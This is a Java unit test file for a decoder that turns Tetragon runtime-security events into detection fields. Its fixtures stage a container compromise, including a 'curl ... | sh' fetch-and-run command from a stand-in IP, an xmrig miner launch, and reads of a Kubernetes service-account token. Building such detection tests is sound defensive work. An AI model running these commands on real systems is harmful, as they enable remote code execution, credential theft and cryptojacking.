package dev.picket.io.decode;

import dev.picket.engine.event.Event;
import dev.picket.engine.event.LogSource;
import org.junit.jupiter.api.Test;

import java.time.Instant;

import static dev.picket.io.decode.Decoded.text;
import static org.assertj.core.api.Assertions.assertThat;

class TetragonDecoderTest {
    private static final String POD = """
            "pod":{"namespace":"shop","name":"webapp-7d9c6b8f4-x2lqp","container":{"id":"containerd://5e1f0c9a2b7d4e3f",\
            "name":"webapp","image":{"id":"registry.example.com/shop/webapp@sha256:8e86","name":"registry.example.com/shop/webapp:2.14.1"},\
            "start_time":"2026-03-10T08:52:41Z","pid":49},"pod_labels":{"app.kubernetes.io/name":"webapp"},"workload":"webapp"}""";
    private static final String PARENT = """
            "parent":{"exec_id":"bm9kZS0yOjEz","pid":51046,"uid":1000,"cwd":"/tmp","binary":"/bin/sh","arguments":"-c \\"curl -fsSL http://198.51.100.23/k.sh | sh\\"",\
            "flags":"execve","start_time":"2026-03-10T09:14:03.406Z",%s}""".formatted(POD);

    static final String EXEC = """
            {"process_exec":{"process":{"exec_id":"bm9kZS0yOjE0","pid":51060,"uid":1000,"cwd":"/tmp","binary":"/tmp/.x/xmrig",\
            "arguments":"-o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1","flags":"execve","start_time":"2026-03-10T09:14:07.030Z",\
            "auid":4294967295,%s,"docker":"5e1f0c9a2b7d4e3","parent_exec_id":"bm9kZS0yOjEz","user":{"name":"tomcat"}},%s,\
            "ancestors":[{"exec_id":"bm9kZS0yOjEy","pid":48211,"binary":"/opt/java/openjdk/bin/java","arguments":"org.apache.catalina.startup.Bootstrap start"}]},\
            "node_name":"node-2","time":"2026-03-10T09:14:07.030457Z"}
            """.formatted(POD, PARENT);

    private static String kprobe(String function, String args, String ret) {
        return """
                {"process_kprobe":{"process":{"exec_id":"bm9kZS0yOjE1","pid":51103,"uid":1000,"cwd":"/usr/local/tomcat",\
                "binary":"/bin/cat","arguments":"/var/run/secrets/kubernetes.io/serviceaccount/token",%s},%s,\
                "function_name":"%s","args":[%s]%s,"action":"KPROBE_ACTION_POST","policy_name":"file-monitoring"},\
                "node_name":"node-2","time":"2026-03-10T09:16:20.644517Z"}
                """.formatted(POD, PARENT, function, args, ret == null ? "" : ",\"return\":{\"int_arg\":" + ret + "}");
    }

    @Test
    void processExecBecomesProcessCreationWithContainerAndPod() {
        Decoded d = Decoded.read(EXEC);
        Event e = d.only();
        assertThat(d.summary.format()).isEqualTo(InputFormat.TETRAGON);
        assertThat(e.logSource()).isEqualTo(LogSource.linux("process_creation"));
        assertThat(e.time()).isEqualTo(Instant.parse("2026-03-10T09:14:07.030457Z"));
        assertThat(text(e, "Image")).isEqualTo("/tmp/.x/xmrig");
        assertThat(text(e, "CommandLine")).isEqualTo("/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1");
        assertThat(e.root().get("ProcessId").intValue()).isEqualTo(51060);
        assertThat(text(e, "User")).isEqualTo("tomcat");
        assertThat(text(e, "CurrentDirectory")).isEqualTo("/tmp");
        assertThat(text(e, "ParentImage")).isEqualTo("/bin/sh");
        assertThat(text(e, "ParentCommandLine")).isEqualTo("/bin/sh -c \"curl -fsSL http://198.51.100.23/k.sh | sh\"");
        assertThat(e.root().get("ParentProcessId").intValue()).isEqualTo(51046);
        assertThat(e.root().get("Ancestors")).hasSize(2);
        assertThat(text(e, "Ancestors.Image")).isEqualTo("/bin/sh");
        assertThat(e.root().get("Ancestors").get(1).get("Image").asText()).isEqualTo("/opt/java/openjdk/bin/java");
        assertThat(text(e, "node")).isEqualTo("node-2");
        assertThat(text(e, "container.id")).isEqualTo("5e1f0c9a2b7d4e3f");
        assertThat(text(e, "container.name")).isEqualTo("webapp");
        assertThat(text(e, "container.image")).isEqualTo("registry.example.com/shop/webapp:2.14.1");
        assertThat(text(e, "k8s.namespace")).isEqualTo("shop");
        assertThat(text(e, "k8s.pod")).isEqualTo("webapp-7d9c6b8f4-x2lqp");
        assertThat(text(e, "k8s.labels.app.kubernetes.io/name")).isEqualTo("webapp");
        assertThat(text(e, "tetragon.process_exec.process.exec_id")).isEqualTo("bm9kZS0yOjE0");
        assertThat(e.root().has("ExeInUpperLayer")).isFalse();
    }

    @Test
    void withoutUserNameTheUidStandsIn() {
        Event e = Decoded.read(EXEC.replace(",\"user\":{\"name\":\"tomcat\"}", "")).only();
        assertThat(text(e, "User")).isEqualTo("1000");
    }

    @Test
    void fileReadPermissionCheckIsAFileAccess() {
        Event e = Decoded.read(kprobe("security_file_permission",
                "{\"file_arg\":{\"path\":\"/var/run/secrets/kubernetes.io/serviceaccount/token\",\"permission\":\"-rw-r--r--\"}},{\"int_arg\":4}",
                "0")).only();
        assertThat(e.logSource()).isEqualTo(LogSource.linux("file_access"));
        assertThat(text(e, "TargetFilename")).isEqualTo("/var/run/secrets/kubernetes.io/serviceaccount/token");
        assertThat(text(e, "FileOperation")).isEqualTo("read");
        assertThat(text(e, "Result")).isEqualTo("ok");
        assertThat(text(e, "Image")).isEqualTo("/bin/cat");
        assertThat(text(e, "k8s.pod")).isEqualTo("webapp-7d9c6b8f4-x2lqp");
    }

    @Test
    void fileWritePermissionCheckIsAFileEvent() {
        Event e = Decoded.read(kprobe("security_file_permission",
                "{\"file_arg\":{\"path\":\"/etc/ld.so.preload\"}},{\"int_arg\":2}", "-13")).only();
        assertThat(e.logSource()).isEqualTo(LogSource.linux("file_event"));
        assertThat(text(e, "FileOperation")).isEqualTo("write");
        assertThat(text(e, "Result")).isEqualTo("denied");
    }

    @Test
    void unlinkHookIsAFileEvent() {
        Event e = Decoded.read(kprobe("security_path_unlink", "{\"path_arg\":{\"path\":\"/var/log/auth.log\"}}", null)).only();
        assertThat(e.logSource()).isEqualTo(LogSource.linux("file_event"));
        assertThat(text(e, "FileOperation")).isEqualTo("unlink");
        assertThat(e.root().has("Result")).isFalse();
    }

    @Test
    void tcpConnectIsAnOutboundConnection() {
        Event e = Decoded.read(kprobe("tcp_connect", "{\"sock_arg\":{\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\","
                + "\"protocol\":\"IPPROTO_TCP\",\"saddr\":\"10.244.2.17\",\"daddr\":\"141.95.72.59\",\"sport\":38012,\"dport\":3333}}", null)).only();
        assertThat(e.logSource()).isEqualTo(LogSource.linux("network_connection"));
        assertThat(text(e, "DestinationIp")).isEqualTo("141.95.72.59");
        assertThat(e.root().get("DestinationPort").intValue()).isEqualTo(3333);
        assertThat(text(e, "SourceIp")).isEqualTo("10.244.2.17");
        assertThat(text(e, "Protocol")).isEqualTo("tcp");
        assertThat(e.root().get("Initiated").booleanValue()).isTrue();
    }

    @Test
    void acceptIsInboundWithTheRemoteEndAsSource() {
        Event e = Decoded.read(kprobe("inet_csk_accept", "{\"sock_arg\":{\"protocol\":\"IPPROTO_TCP\",\"saddr\":\"10.0.3.18\","
                + "\"daddr\":\"203.0.113.9\",\"sport\":2375,\"dport\":51515}}", null)).only();
        assertThat(text(e, "SourceIp")).isEqualTo("203.0.113.9");
        assertThat(text(e, "DestinationIp")).isEqualTo("10.0.3.18");
        assertThat(e.root().get("DestinationPort").intValue()).isEqualTo(2375);
        assertThat(e.root().get("Initiated").booleanValue()).isFalse();
    }

    @Test
    void processExitAndKprobesWithoutFileOrSocketAreSkipped() {
        Decoded d = Decoded.read("""
                {"process_exit":{"process":{"pid":51060,"binary":"/tmp/.x/xmrig"},"signal":"SIGKILL"},"node_name":"node-2","time":"2026-03-10T09:20:00Z"}
                """ + kprobe("sys_setuid", "{\"int_arg\":0}", null));
        assertThat(d.errors).isEmpty();
        assertThat(d.summary).isEqualTo(new ReadSummary(InputFormat.TETRAGON, 0, 2, 0));
    }

    @Test
    void recordOfNoKnownEventTypeIsAnError() {
        Decoded d = Decoded.read(DecodeSettings.defaults(Decoded.CLOCK).withFormat(InputFormat.TETRAGON),
                "{\"node_name\":\"node-2\",\"time\":\"2026-03-10T09:20:00Z\"}");
        assertThat(d.errorTexts()).singleElement().asString().startsWith("test.log:1: not a Tetragon event: none of process_exec");
    }
}
